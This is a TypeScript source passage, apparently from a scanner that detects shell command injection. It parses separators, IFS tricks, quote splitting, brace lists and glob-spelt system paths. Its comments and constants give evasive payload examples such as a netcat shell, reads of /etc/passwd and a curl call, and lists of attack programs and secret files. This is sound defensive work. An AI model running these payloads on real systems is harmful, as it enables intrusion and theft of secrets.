/** (forty-fifth round) one assignment of a command's environment, `A=1 `, `LANG=C.UTF-8 `: a name, `=`, a plain value, blanks */
const ENV_ASSIGNMENT = /[a-z_][a-z0-9_]{0,40}=[^\s;&|'"`$()<>\\]{0,200}[ \t]+/y
/** Where the command after one to eight assignments of its environment starts (`A=1 B=2 id`), or -1. */
function afterAssignments(v: string, i: number): number {
  let at = i
  for (let n = 0; n < 8; n++) {
    ENV_ASSIGNMENT.lastIndex = at
    if (!ENV_ASSIGNMENT.test(v)) return n === 0 ? -1 : at
    at = ENV_ASSIGNMENT.lastIndex
  }
  return at
}
/** Where the wrapped program starts: past the wrapper's options and their values (`-l 100`, `-u /`), or -1. */
function afterWrapper(v: string, k: number): number {
  let i = k
  for (let n = 0; n < 8 && i < v.length; n++) {
    const c = v.charCodeAt(i)
    if (c !== 45 && c !== 47 && !(c >= 48 && c <= 57)) return i
    while (i < v.length && !isBlank(v.charCodeAt(i))) i++
    while (i < v.length && isBlank(v.charCodeAt(i))) i++
  }
  return -1
}
/** A listed program that runs: alone, with a shell's arguments, or with a separator later on its line (`time whoami | sh`). */
function wrappedCommand(v: string, i: number): boolean {
  let j = i
  while (j < v.length && isWordChar(v.charCodeAt(j))) j++
  if (j === i || !COMMANDS.has(v.slice(i, j)) || WRAPPERS.has(v.slice(i, j))) return false
  let k = j
  while (k < v.length && isBlank(v.charCodeAt(k))) k++
  return commandEnds(v, k) || (k > j && shellArgument(v, k)) || /^[^\n]{0,200}?[|;&]/.test(v.slice(k, k + 202))
}

/**
 * A `&` or `|` with blanks around it after a word or a comma, as prose and tables have them (`Tom &
 * Jerry`, `definitions, & more`); not after an address or a quote (`127.0.0.1 & dir`, `' | id`).
 */
function betweenWords(v: string, i: number): boolean {
  if (i < 2 || !isBlank(v.charCodeAt(i - 1)) || !isBlank(v.charCodeAt(i + 1))) return false
  const c = v.charCodeAt(i - 2)
  return (c >= 97 && c <= 122) || c === 44 || c === 46 || c === 58 || c >= 0x80
}
/**
 * (twenty-ninth round) Whether the `&` at `i` has blanks around it, a word of English or an unknown name after it that a `)` closes,
 * and that parenthesis opened before the `&` on its line, not on a program's name: `(char_table[c] & type)`.
 */
function andOperand(v: string, i: number): boolean {
  if (!isBlank(v.charCodeAt(i - 1)) || !isBlank(v.charCodeAt(i + 1))) return false
  let j = i + 1
  while (j < v.length && isBlank(v.charCodeAt(j))) j++
  // (forty-fourth round: or a sigil's variable, PHP's and Perl's `(error_reporting() & $code)`, which the value assigns nowhere — to a
  // shell `code=id;` before it would make the operand a program)
  const sigil = v.charCodeAt(j) === 36
  if (sigil) j++
  const from = j
  while (j < v.length && j - from <= 40 && isNameChar(v.charCodeAt(j))) j++
  if (j === from) return false
  const word = v.slice(from, j)
  if (sigil ? assignments(v).names.has(word) : COMMANDS.has(word) && !ENGLISH.has(word)) return false
  while (j < v.length && isBlank(v.charCodeAt(j))) j++
  if (v.charCodeAt(j) !== 41) return false
  // an unmatched `(` before the `&`, on its line, within 200 characters
  let depth = 0
  for (let b = i - 1; b >= 0 && b >= i - 200; b--) {
    const c = v.charCodeAt(b)
    if (c === 10 || c === 13) return false
    if (c === 41) depth++
    else if (c === 40 && depth-- === 0) {
      // (not a subshell's, opening on a program: `(sleep 5 & id)`)
      let k = b + 1
      while (k < i && isBlank(v.charCodeAt(k))) k++
      let e = k
      while (e < i && isWordChar(v.charCodeAt(e))) e++
      return !COMMANDS.has(v.slice(k, e))
    }
  }
  return false
}

/** Code, not a shell: `&query`, `(&mut x)`, `f(a, &b)`, `x = &y` (references and addresses). */
const CODE_BEFORE = new Set([40, 91, 123, 44, 61, 60, 33, 38, 42])

/** (forty-fifth round's third review) the listed programs cmd.exe runs, by name or with `.exe`: `insideCall` passes none over */
const CMD_PROGRAMS = new Set(
  ('dir whoami hostname ipconfig netstat arp route ping tracert nslookup curl tar systeminfo tasklist taskkill wmic reg netsh nbtstat sc ' +
    'schtasks certutil bitsadmin mshta rundll32 regsvr32 cscript wscript ver vol powershell pwsh cmd findstr icacls cacls attrib wevtutil ' +
    'vssadmin bcdedit ntdsutil runas query quser qwinsta expand certreq bcdboot regedit type set echo more sort find start call copy move ' +
    'del ren net net1 time date path title cls exit where fc comp tree xcopy robocopy mklink subst').split(' '),
)
/** how far `insideCall` looks on its line for the call's `(` and `)` */
const CALL_REACH = 400

/**
 * a character that ends `insideCall`'s look on either side: a line break, a quote, a backtick, a backslash, `$`, a brace or a bracket
 * (second review: zsh reads `x[f(]` as a bracket expression and bash `a[f(]=1` as an array's subscript, the `(` a character in both)
 */
const outsideCall = (c: number) => c === 10 || c === 13 || c === 39 || c === 34 || c === 96 || c === 92 || c === 36 || c === 123 || c === 125 || c === 91 || c === 93

/**
 * (forty-fifth round) Whether the `&` at `i` stands among a call's arguments on its line (`f(a, &b)`, `fn(const x& y)`): bash and dash
 * refuse `name(` with anything but `)` after it, and zsh, whose word ends at the `&`, the stray `)` after it, so the line runs nothing.
 * Only where, after the five reviews:
 * - an unclosed `(` before the `&` on its line is glued to a name that is no shell word (`if(`, `while(` open a subshell), with no
 *   quote, backtick, backslash, `$`, brace or bracket between (`outsideCall`: `${x:-f(}`, zsh's `[f(]`, bash's `a[f(]=1`);
 * - an argument's words alone stand between the `&` and a `)` on the line (not `#)`, `g(x)`, another separator);
 * - the word after the `&` is no program cmd.exe runs, to which a parenthesis outside a block is a character;
 * - no parenthesis that may open a group, nor `alias` or `eval`, stands before the call in the value (`subshellBefore`).
 */
function insideCall(v: string, i: number): boolean {
  const after = v.charCodeAt(i + 1) === 38 ? i + 2 : i + 1
  let closed = false
  for (let k = after, stop = Math.min(v.length, after + CALL_REACH); k < stop; k++) {
    const c = v.charCodeAt(k)
    if (c === 41) {
      closed = true
      break
    }
    // (third review) an argument's words alone up to the `)`: not a comment's `#`, another word's group or another separator, where
    // zsh reads that `)` as no stray one (`f( & id #)`, `f( & id & echo g(x)` ran `id`)
    if (!isNameChar(c) && !isBlank(c) && c !== 44 && c !== 42 && c !== 46 && c !== 58 && c !== 45) return false
  }
  if (!closed) return false
  // (third review) not a program cmd.exe runs, to which a parenthesis outside a block is a character (`f(x & whoami )`)
  let w = after
  while (w < v.length && isBlank(v.charCodeAt(w))) w++
  let e = w
  while (e < v.length && isWordChar(v.charCodeAt(e))) e++
  if (CMD_PROGRAMS.has(v.slice(w, e))) return false
  let depth = 0
  for (let k = i - 1, stop = Math.max(0, i - CALL_REACH); k >= stop; k--) {
    const c = v.charCodeAt(k)
    if (outsideCall(c)) return false
    // (forty-seventh round) no call nests 16 deep: past that the look back stops, and a line of thousands of `&&)` costs no 400 steps each
    if (c === 41 && ++depth > 16) return false
    else if (c === 40 && depth > 0) depth--
    else if (c === 40) return !opensGroup(v, k) && !subshellBefore(v, k - gluedName(v, k).length)
  }
  return false
}

/** The name glued before the `(` at `k` (`f` of `f(`), or '' where none is. */
function gluedName(v: string, k: number): string {
  let s = k
  // (forty-seventh round: dots too, a spread's `...(`, a method's `x.y(`: bash and dash refuse such a word glued to `(` as they refuse a
  // name, zsh matches it as a glob)
  while (s > 0 && (isNameChar(v.charCodeAt(s - 1)) || v.charCodeAt(s - 1) === 46)) s--
  return v.slice(s, k)
}
/** Whether the `(` at `k` may open a shell's group: glued to no name, or to a shell word (`(`, `$(`, `if(`, `while(`). */
const opensGroup = (v: string, k: number) => {
  const name = gluedName(v, k)
  return name === '' || SHELL_WORDS.has(name)
}

/**
 * the words `alias` and `eval` (fifth review), bash's `BASH_ALIASES`, and any `$` or backtick, which may spell a command's word
 * (forty-sixth round's review: dash's `x=ali; ${x}as a='true #'`)
 */
const ALIAS_OR_EXPANSION = /(?<![\w-])(?:alias|eval|bash_aliases)(?![\w-])|[$`]/
/** how far before a call `subshellBefore` looks for a group's parenthesis */
const GROUP_REACH = 4000

/**
 * (forty-fifth round's fourth review) Whether a parenthesis that may open a group stands before `at` in the value: one glued to no
 * name, or to a shell word (`(f( &id)`, `true;(f( & id -a )`, `$(f( & id)`, a subshell opened lines before: zsh runs what follows the
 * `&` there, the `)` closing the group). Before a call, a program's text has its calls' parentheses glued to their names (`pub fn
 * new(action: impl Fn(&mut W, &Env)`); past the reach, one is assumed.
 */
function subshellBefore(v: string, at: number): boolean {
  if (at > GROUP_REACH) return true
  // (fifth review) nor an alias or an eval before it: dash, `bash --posix` and bash with `expand_aliases` read a later line through
  // an alias an earlier line defined (`alias f=true\;⏎f( x & id -a )` is a subshell), and zsh's `eval $'\050f( & id -a )'` spells one
  if (ALIAS_OR_EXPANSION.test(v.slice(0, at))) return true
  for (let k = v.indexOf('(', 0); k !== -1 && k < at; k = v.indexOf('(', k + 1)) if (opensGroup(v, k)) return true
  return false
}

/**
 * A value whose first quote of a kind opens an assignment's value and closes on the same line (`alias
 * hgrep="fc -El 0 | grep"`, `x='a | b'`): a definition; that quote closes no quote of a command it is spliced into.
 */
function assignedQuote(v: string, q: string): boolean {
  return assignedEnd(v, q) !== -1
}
/** Where the assignment's quoted value `assignedQuote` found closes (-1: none). */
function assignedEnd(v: string, q: string): number {
  const at = v.indexOf(q)
  if (at < 2 || v.charCodeAt(at - 1) !== 61 || !isWordChar(v.charCodeAt(at - 2))) return -1
  const close = v.indexOf(q, at + 1)
  return close !== -1 && !v.slice(at, close).includes('\n') ? close : -1
}
/**
 * (twelfth round) Whether the first quote of kind `q` sits inside an assignment's value quoted with the
 * other kind (`alias hgsl='hg log --template "{node|short} | {date}"'`, on the line of that quote): a quote nested in
 * a definition closes no quote of a command either.
 */
function nestedInAssigned(v: string, q: string, outer: string): boolean {
  const at = v.indexOf(q)
  const start = v.lastIndexOf('\n', at) + 1
  const line = v.slice(start, start + 2000)
  const close = assignedEnd(line, outer)
  return close !== -1 && at - start > line.indexOf(outer) && at - start < close
}

/** Whether the backtick span from `open` to `close` (at most 200 characters) holds a blank: a command line's argument. */
function spanHasBlank(v: string, open: number, close: number): boolean {
  return open >= 0 && close > open && close - open <= 200 && v.slice(open, close).includes(' ')
}

/** what a command span ends on: a letter, a digit, a quote, a closing bracket */
const isNameOrQuoteEnd = (c: number) => isWordChar(c) || c === 34 || c === 39 || c === 41 || c === 93 || c === 125
/** Whether two backtick spans are joined by `.` and one of them holds a blank (`` `echo a`.`echo b` ``, not `` `users`.`id` ``). */
export function dotJoinedCommands(v: string): boolean {
  let from = 0
  for (let n = 0; n < 16; n++) {
    const at = v.indexOf('`.`', from)
    if (at === -1) return false
    // (twenty-fifth round) the spans glued by the dot end and start on it, on one line: a code span of a dot alone in prose
    // (`keys that contain \`.\``) joins nothing
    const open = v.lastIndexOf('`', at - 1)
    const close = v.indexOf('`', at + 3)
    if (at === 0 || close === -1 || !isNameOrQuoteEnd(v.charCodeAt(at - 1)) || isBlank(v.charCodeAt(at + 3)) || v.charCodeAt(at + 3) === 10 || v.slice(open + 1, at).includes('\n') || v.slice(at + 3, close).includes('\n')) {
      from = at + 3
      continue
    }
    if (spanHasBlank(v, open, at) || spanHasBlank(v, at + 2, close)) return true
    from = at + 3
  }
  return false
}

/**
 * Whether a decoded, lower-cased value injects a shell command: as it is, inside the single or double
 * quotes of the command it is spliced into (its own quote closes them: `'|id|'`), and with the
 * shell's no-op spellings folded (`wh''oami`, `who$@ami`, `cat${IFS}/etc/passwd`).
 */
export function shellInjection(v: string): boolean {
  // (a Markdown fence, ```` ``` ````, as fold() leaves it a single backtick: its lines are a listing, not a substitution's commands;
  // told to every reading of the value below)
  const fenced = v.includes('```')
  if (injectionAt(v, fenced) !== -1) return true
  // (thirteenth round) a whole value that is a separator then one command line, any program: appended to a command
  // (twenty-ninth round: or one listed program that closes a quote or a command and comments the line's rest out)
  if (v.length <= 300 && (appendedCommand(v) || commentedCommand(v))) return true
  // (twelfth round) options spelt with a typographic dash, as a word processor writes them (`| ping –n 30 127.0.0.1 |`)
  if ((v.includes('\u2013') || v.includes('\u2014')) && injectionAt(v.replace(TYPOGRAPHIC_OPTION, ' -'), fenced) !== -1) return true
  // a chain that starts by changing to a directory by its path, then runs anything: cd /;cd etc;comm passwd passwd
  if (v.includes('cd') && CD_CHAIN.test(v)) return true
  if (braceProgram(v)) return true
  // (twenty-fifth round) the field separator set to another character, then a command line parted by it (`;IFS=,;cat,/etc/passwd`)
  if (v.includes('ifs=')) {
    const ifs = IFS_ASSIGN.exec(v)
    if (ifs !== null) {
      const rest = v.slice(ifs.index + ifs[0].length).replaceAll(ifs[1]!, ' ')
      if (bareCommand(rest) || injectionAt(`;${rest}`, fenced) !== -1) return true
    }
  }
  // (twenty-sixth round) an empty expansion inside a word (`cat fl${x}ag`, `cat tes$(z)t/flag`): only an evasion writes one; the
  // words it joins, led by a listed program and an argument, are a command line (English or not: `cat flag` is one here)
  // (review: where it hides a word a signature reads, a program's or a file's, `c${u}at`, `fl${x}ag`, `/et${u}c/passwd`: a shell
  // manual's `echo pre${var}post` and a loop's `cp photo${n}x.jpg backup/` name their own files)
  if (v.includes('$') && IN_WORD_EXPANSION.test(v)) {
    const joined = v.replace(IN_WORD_EXPANSIONS, '').trim()
    const space = joined.search(BLANK_RUN)
    if (space > 1 && COMMANDS.has(joined.slice(0, space)) && joined.length - space < 200 && hidesWord(v)) return true
  }
  // (nineteenth round) the shell's field separator written for a blank (`${IFS}ls${IFS}-la`): the words it parts include a program
  // (forty-ninth round: or glued to a program and to more letters, `;curl$IFSrce_k3x9q.glc.st;`, a generator's payload naming a variable it
  // never set: written where a command starts, an attack's word however it expands)
  if (v.includes('ifs') && (IFS_BLANK.test(v) || IFS_GLUED_PROGRAM.test(v))) {
    for (const word of v.replace(IFS_BLANKS, ' ').split(WORD_BREAKS, 16)) if (word.length > 1 && COMMANDS.has(word) && !ENGLISH.has(word)) return true
    // (thirty-ninth round) English or not, a program the separator is glued to where a command starts: no script writes `echo$IFS`
    // (forty-ninth round's review: every such word, not the first alone — `a$IFSb;touch$IFS/tmp/x` hid `touch` behind a decoy)
    for (const glued of v.matchAll(IFS_GLUED_PROGRAMS)) if (COMMANDS.has(glued[1]!)) return true
  }
  if (v.includes("'") && !assignedQuote(v, "'") && !nestedInAssigned(v, "'", '"') && injectionAt(`'${v}`, fenced) !== -1) return true
  if (v.includes('"') && !assignedQuote(v, '"') && !nestedInAssigned(v, '"', "'") && injectionAt(`"${v}`, fenced) !== -1) return true
  const folded = fold(v)
  if (folded !== v && (injectionAt(folded, fenced) !== -1 || bareCommand(folded))) return true
  // a terminal escape written out whose final letter is the program's first (\033[2curl: a log
  // viewer's escape, then `curl …`): the introducer alone dropped
  if (v.includes('\\033[') || v.includes('\\x1b[')) {
    const introducers = v.replace(ESCAPE_INTRODUCERS, '')
    if (injectionAt(introducers, fenced) !== -1 || injectionAt(fold(introducers), fenced) !== -1) return true
  }
  // a command line written with `+` for its blanks, as a form encodes them, where nothing decodes
  // them (a header, a JSON field, a second encoding): `+|+dir+c:\`  `%0a+dir+c:/`
  if (v.includes('+') && (!v.includes(' ') || PLUS_BLANK.test(v))) {
    const spaced = v.replace(PLUSES, ' ')
    if (injectionAt(spaced, fenced) !== -1 || bareCommand(spaced)) return true
    const folded = fold(spaced)
    return folded !== spaced && (injectionAt(folded, fenced) !== -1 || bareCommand(folded))
  }
  return false
}

/** (sixtieth round's review) a reference's variable closing a PHP foreach's parenthesis, `$service)` */
const FOREACH_REFERENCE = /^\$[a-z_]\w{0,60}[ \t]{0,4}\)/
/** (second review) the foreach's own parenthesis opening that line, no shell's separator between (`c=id;(: as &$c)` ran `id`) */
const FOREACH_OPEN = /(?:^|[^\w$])foreach[ \t]{0,4}\([^;&|\n`()]{0,200}$/
/** whether a foreach's parenthesis opens the 200 characters before `i` on their line (read there alone: a long line of such references costs no more) */
function foreachOpens(v: string, i: number): boolean {
  const before = v.slice(Math.max(0, i - 200), i)
  return FOREACH_OPEN.test(before.slice(before.lastIndexOf('\n') + 1))
}
const TYPOGRAPHIC_OPTION = /[ \t][\u2013\u2014](?=[a-z])/g
/** (its second word an option, a path, a URL or nothing: `{cat,dog}` is a pair of words) */
const BRACE_PROGRAM = /(?:^|[;|&`\n(]\s{0,4})\{([a-z][\w.-]{1,20}),(?=[-/~.$}]|[a-z]{2,8}:\/\/)[^{}\s]{0,100}\}/g
// (twenty-seventh round: `$IFS` glued to what it parts, `cat$IFS/etc/passwd`, `;ls$IFS-la`; prose names it between blanks or quotes,
// `split at $IFS whitespaces`, `"$IFS"`; review: a quoted word's closing quote glued to it is the word's, `'cat'$IFS'/etc/passwd'`)
const IFS_BLANK = /\$\{ifs\}|(?<=[^\s("'`]|[\w./-]['"])\$ifs\b|\$ifs(?:\$9|(?=[^\s\w,.;:)'"`]))/
/** (twenty-sixth round) a variable or a substitution of one short name, braced, between two letters or digits of one word */
const IN_WORD_EXPANSION = /(?<=[a-z0-9])\$(?:\{[a-z_]\w{0,7}\}|\([a-z_]\w{0,7}\))(?=[a-z0-9])/
const IN_WORD_EXPANSIONS = new RegExp(IN_WORD_EXPANSION.source, 'g')
const BLANK_RUN = /[ \t]+/
/** (review) a word an evasion cuts: a system location, a secret's or a flag's file */
const HIDDEN_FILE = /^\/(?:etc|proc|root|home|var|dev|bin|usr|tmp|windows)\b|(?:^|\/)(?:flag|passwd|shadow|environ|id_rsa|win\.ini)\b/
/** (review) whether an expansion inside a word joins a listed program or a file a signature reads */
function hidesWord(v: string): boolean {
  for (const word of v.split(BLANK_RUN, 64)) {
    if (!word.includes('$') || !IN_WORD_EXPANSION.test(word)) continue
    const joined = word.replace(IN_WORD_EXPANSIONS, '')
    if (COMMANDS.has(joined) || HIDDEN_FILE.test(joined)) return true
  }
  return false
}
const IFS_ASSIGN = /(?:^|[;&|\n])[ \t]{0,4}ifs=([^\s;'"$]{1,3});/
const IFS_BLANKS = /\$\{ifs\}|\$ifs\b(?:\$9)?/g
/** (thirty-ninth round) a program, or its option, glued to the field separator where a command starts (`echo$IFS"hacked"`, `bash -c$IFS'…'`) */
// (fifth review: of options, a shell's `-c` only — `cut -d$IFS -f1` and `read -d$IFS line` use the separator as a delimiter)
const IFS_GLUED_PROGRAM = /(?:^|[;|&\n`(][ \t]{0,4})([a-z][\w.-]{0,20})(?:[ \t]{1,4}-c)?(?:\$\{ifs\}|\$ifs)/
const IFS_GLUED_PROGRAMS = new RegExp(IFS_GLUED_PROGRAM.source, 'g')
const WORD_BREAKS = /[^a-z0-9_.-]+/
const ESCAPE_INTRODUCERS = /\\(?:033|x1b)\[[0-9;]{0,8}/g
/** A `+` beside a separator, as form encoding leaves one: `+|+`  `%0a+dir`  `&&+` */
const PLUS_BLANK = /[;|&\n`]\+|\+[;|&`]|\\n\+/
const PLUSES = /\+/g

// (an unset variable glued to a word expands to nothing: cat$u /etc$u/passwd; twenty-sixth round: inside a word too, braced or
// as a substitution of a program that is not there, `cat fl${x}ag`, `cat tes$(z)t/flag`)
// (sixteenth round) cmd's caret escape between letters (`w^hoami`, `cm^d`) is a no-op too
// (fifteenth round) an empty pair of quotes standing alone is an empty argument (`echo ''`), not a word split by quotes: not folded
const NO_OPS = /(?<=[a-z])\^(?=[a-z])|\$\{ifs\}|\$ifs\b(?:\$9)?|(?<=\S)(?:''|"")|(?:''|"")(?=\S)|``|\$[@*]|(?<=[a-z])\$[1-9](?=[a-z])|\$\(\)|(?<=[a-z0-9/])\$[a-z_]\w{0,7}(?=[/+\s;|&]|$)|(?<=[a-z0-9/])\$\{[a-z_]\w{0,7}\}(?=[a-z0-9/._-])|(?<=[a-z0-9/])\$\([a-z_]\w{0,7}\)(?=[a-z0-9/._-])|\[[a-z0-9]\](?=[a-z0-9/])|(?<=[a-z/])\[[a-z0-9]\]|\\(?:033|x1b|e|u001b)\[[0-9;]{0,8}[a-z]|\\(?=[a-z])|\\n/g
/** (twenty-third round) bash's ANSI-C quoting of a plain word is the word: `;$'id';` */
const ANSI_C_WORD = /\$'([a-z]{1,12})'/g
export const fold = (v: string) =>
  expandBraces(
  expandGlobs(
    unquoteWords(
      (v = v.includes("$'") ? v.replace(ANSI_C_WORD, '$1') : v).includes('$') || v.includes("''") || v.includes('""') || v.includes('``') || v.includes('\\') || v.includes('[') || v.includes('^')
        ? v.replace(NO_OPS, (m) => (m.startsWith('[') ? m.charAt(1) : m.startsWith('${ifs') || m.startsWith('$ifs') ? ' ' : m === '\\n' ? '\n' : ''))
        : v,
    ),
  ),
  )

/**
 * A brace list where a command starts is the command's words to bash (`{cat,/etc/passwd}` runs
 * `cat /etc/passwd`, `$({uname,-a})`): at the value's start or after a separator or a substitution's opening.
 */
const BRACE_LIST = /(^|[;|&`\n(]\s{0,4})\{([\w./-]{1,30}(?:,[\w./:-]{0,60}){1,8})\}/g
const expandBraces = (v: string) => (v.includes('{') && v.includes(',') ? v.replace(BRACE_LIST, (_m, before: string, list: string) => before + list.replaceAll(',', ' ')) : v)

/** Letters quoted inside a word are the word to the shell: c'a't  wh"o"ami  'who'ami */
const QUOTE_SPLIT = /(?<=[a-z])'[a-z]{1,12}'|'[a-z]{1,12}'(?=[a-z])|(?<=[a-z])"[a-z]{1,12}"|"[a-z]{1,12}"(?=[a-z])/g
const SEPARATOR = /[;|&`\n]/
const unquote = (m: string) => m.slice(1, -1)
/** Quotes dropped from words, where a program may be (the first word, or a value with a separator: prose's `O'Brien's` is left as it is). */
function unquoteWords(v: string): string {
  const single = v.indexOf("'")
  const double = v.indexOf('"')
  if (single === -1 && double === -1) return v
  const quote = single === -1 ? double : double === -1 ? single : Math.min(single, double)
  // a quote in a later word: only where a separator before it starts a command
  const blank = v.indexOf(' ')
  if (blank !== -1 && blank < quote && !SEPARATOR.test(v.slice(0, quote))) return v
  return v.replace(QUOTE_SPLIT, unquote)
}

/** System programs and files a path spelt with globs names (`/???/c?t /?tc/?as?wd`): the shell expands it to them. */
const SYSTEM_PATHS = [
  '/bin/sh', '/bin/bash', '/bin/dash', '/bin/zsh', '/bin/cat', '/bin/ls', '/bin/nc', '/bin/netcat', '/bin/busybox', '/bin/id', '/bin/uname', '/bin/ping',
  '/usr/bin/id', '/usr/bin/whoami', '/usr/bin/wget', '/usr/bin/curl', '/usr/bin/nc', '/usr/bin/ncat', '/usr/bin/env', '/usr/bin/python', '/usr/bin/python3',
  '/usr/bin/perl', '/usr/bin/php', '/usr/bin/base64', '/etc/passwd', '/etc/shadow', '/etc/hosts', '/etc/group', '/etc/issue',
]
/** An absolute path token, globs allowed; a segment that is only stars (`/x/*`, a comment's opening) names nothing in particular. */
const GLOB_PATH = /(?<![\w.~-])\/[\w?*\[\]\/.-]{2,60}/g
const GLOB_CHAR = /[?*\[]/
const STAR_SEGMENT = /(?:^|\/)\*{1,60}(?:\/|$)/

/** One element of a glob at `i` (`?`, `[set]`, a character) against `c`: the index after it, or -1. */
function globOne(p: string, i: number, c: number): number {
  const d = p.charCodeAt(i)
  if (c === 47 && d !== 47) return -1 // no wildcard stands for a slash
  if (d === 63) return i + 1
  if (d === 91) {
    const end = p.indexOf(']', i + 2)
    if (end !== -1) {
      const set = p.slice(i + 1, end)
      return set.includes(String.fromCharCode(c)) || set.includes('?') ? end + 1 : -1
    }
  }
  return d === c ? i + 1 : -1
}
/** Whether glob `p` matches path `s` as the shell's pathname expansion would (`*` and `?` within a segment). */
function globMatch(p: string, s: string): boolean {
  let i = 0
  let j = 0
  let star = -1
  let mark = 0
  while (j < s.length) {
    if (i < p.length && p.charCodeAt(i) === 42) {
      star = i++
      mark = j
      continue
    }
    const next = i < p.length ? globOne(p, i, s.charCodeAt(j)) : -1
    if (next !== -1) {
      i = next
      j++
    } else if (star !== -1 && s.charCodeAt(mark) !== 47) {
      i = star + 1
      j = ++mark
    } else return false
  }
  while (p.charCodeAt(i) === 42) i++
  return i === p.length
}
/**
 * how many `/` a path or a glob holds outside a bracket set (`[e//]` stands for one character, as globOne reads it): no wildcard stands
 * for a `/`, so a glob matches only a path with as many
 */
const slashes = (p: string): number => {
  let n = 0
  for (let i = 0; i < p.length; i++) {
    const c = p.charCodeAt(i)
    if (c === 47) n++
    else if (c === 91) {
      const end = p.indexOf(']', i + 2)
      if (end !== -1) i = end
    }
  }
  return n
}
/**
 * (forty-ninth round, cost) the system paths by their count of `/`, built once: a glob is tried only against those with as many (a value
 * of `2>&1<%/*` repeated held thousands of one-segment globs, each tried against every path, 20 ms for 16 KiB; none of them has one)
 */
const BY_SLASHES = new Map<number, string[]>()
/** the same paths as a shell at the root names them (`bin/sh` for `/bin/sh`), by their count of `/`, with the path each names */
const RELATIVE_BY_SLASHES = new Map<number, (readonly [relative: string, path: string])[]>()
for (const p of SYSTEM_PATHS) {
  const n = slashes(p)
  BY_SLASHES.set(n, [...(BY_SLASHES.get(n) ?? []), p])
  RELATIVE_BY_SLASHES.set(n - 1, [...(RELATIVE_BY_SLASHES.get(n - 1) ?? []), [p.slice(1), p]])
}
function expandGlob(m: string): string {
  if (!GLOB_CHAR.test(m) || STAR_SEGMENT.test(m)) return m
  for (const p of BY_SLASHES.get(slashes(m)) ?? []) if (globMatch(m, p)) return p
  return m
}
/**
 * (fortieth round) A relative path token spelt with globs (`*bin/bash`, `?in/cat`, `*in/id`): from the root, where a service often runs,
 * the shell expands it to the system's program (`(*bin/bash -c id *)` ran `id` in bash and dash); a segment of stars alone is none
 */
const RELATIVE_GLOB_PATH = /(?<![\w.~/*?\]-])[\w?*\[\]][\w?*\[\].-]{0,30}\/[\w?*\[\]\/.-]{1,40}/g
function expandRelativeGlob(m: string): string {
  if (!GLOB_CHAR.test(m) || STAR_SEGMENT.test(m)) return m
  for (const [relative, p] of RELATIVE_BY_SLASHES.get(slashes(m)) ?? []) if (globMatch(m, relative)) return p
  return m
}
/** A value with its glob-spelt system paths expanded, as the shell would before running it. */
export function expandGlobs(v: string): string {
  if (!(v.includes('?') || v.includes('*') || v.includes('[')) || !v.includes('/')) return v
  return v.replace(GLOB_PATH, expandGlob).replace(RELATIVE_GLOB_PATH, expandRelativeGlob)
}

/** Programs whose first argument is a sub-command (`net user`, `reg add`): it reads as a shell's. */
const SUBCOMMANDS: Record<string, readonly string[]> = {
  net: ['user', 'users', 'localgroup', 'view', 'share', 'use', 'group', 'accounts', 'session', 'config', 'time', 'start', 'stop', 'file'],
  reg: ['add', 'query', 'delete', 'save', 'export', 'import', 'copy', 'load'],
  sc: ['query', 'create', 'config', 'start', 'stop', 'delete', 'qc'],
  service: ['start', 'stop', 'restart', 'status'],
}

/**
 * Every token after the program reads as a shell's: options, paths, numbers, quotes, redirections.
 * (review of the twenty-sixth round: a redirection's run of signs then anything, `[<>|&;^]\S*`, not `[<>|&;^]+\S*`; and a file
 * name by its extension looked for once, in a lookahead, before the token is read whole: the same tokens, where both backtracked
 * quadratically on a long run of `|` or of `.php` ending on a line break)
 */
const SHELL_TOKEN = /^(?:-{1,2}[\w=.,:/+-]*|\/[^\s]*|[a-z]:[\\/][^\s]*|%\w+%[^\s]*|\$\S*|['"].*|\d[\w.:/-]*|[<>|&;^]\S*|[\w.-]+=\S*|\.{1,2}[\\/]\S*|~\S*|\*\S*|\\\S*|(?=[\w.-]+\.(?:php|txt|sh|exe|bat|ps1|py|pl|log|ini|conf|asp|aspx|jsp)\b)\S*)$/

/**
 * A value that is a command line on its own (`ipconfig /all`, `ls -l /tmp`, `nc -lvvp 4444 -e /bin/sh`):
 * a listed program, then only what a shell reads as arguments; English words as the program need one.
 */
export function bareCommand(v: string): boolean {
  const trimmed = v.trim()
  let line = trimmed.charCodeAt(0) === 47 ? trimmed.replace(TRAILING_SEPARATOR, '') : trimmed
  if (line.length === 0 || line.length > 200 || line.includes('\n')) return false
  // (nineteenth round) a comment or a NUL closing the line (`cat /etc/passwd #`, `… %00`), and a reader's input redirected
  // glued to it (`cat</etc/passwd`, `cat<>/etc/passwd`): the same command line
  if (line.includes('#') || line.includes('\0') || line.includes('%00')) line = line.replace(TRAILING_COMMENT, '')
  if (line.includes('<')) line = line.replace(GLUED_INPUT, '$1 ')
  let end = 0
  while (end < line.length && !isBlank(line.charCodeAt(end))) end++
  let first = line.slice(0, end)
  // a recon program's name in cmd's variable delimiters (`%whoami%`, `!whoami!`, `%!whoami!%`): a fuzzer's spelling of the program
  if (end === line.length && (first.charCodeAt(0) === 37 || first.charCodeAt(0) === 33)) return ALONE.has(first.replace(CMD_VARIABLE, '$1'))
  // a program by its path: /bin/cat /etc/passwd
  if (first.charCodeAt(0) === 47 && PROGRAM_PATH.test(first)) {
    first = first.slice(first.lastIndexOf('/') + 1)
    // a listed program by its path in a system directory is run, not searched for (`/bin/ls -al`,
    // `/usr/bin/id`, `/usr/bin/id;`): any shell arguments, or none for a recon program; a shell or an
    // interpreter alone (`/bin/bash`, a user's login shell) is a setting
    // (a reader given a file reads the system's only: `/bin/cat notes.txt` is no probe)
    if (COMMANDS.has(first) && !RECON.has(first) && !WRAPPERS.has(first) && !(READERS.has(first) && !ONLY_OPTIONS.test(line.slice(end)))) return pathCommand(first, line.slice(end))
  }
  // (nineteenth round) an interpreter given its option to run a command line runs whatever follows it: `cmd /c net user`,
  // `powershell.exe -command "Get-Process"`, `%COMSPEC% /c dir`, `node -e '…'`
  const interpreter = INTERPRETERS.has(first) ? first : first.endsWith('.exe') && INTERPRETERS.has(first.slice(0, -4)) ? first.slice(0, -4) : first === '%comspec%' ? 'cmd' : ''
  if (interpreter !== '' && RUNS_NEXT[interpreter]!.test(line.slice(end))) return true
  if (WRAPPERS.has(first)) {
    const next = afterWrapper(line, end + 1)
    return next !== -1 && (wrappedCommand(line, next) || bareCommand(line.slice(next)))
  }
  // (twenty-fifth round) find running a listed program on what it finds (`find . -exec id \\; -quit`)
  const run = first === 'find' ? FIND_EXEC.exec(line) : null
  if (run !== null) return COMMANDS.has(run[1]!)
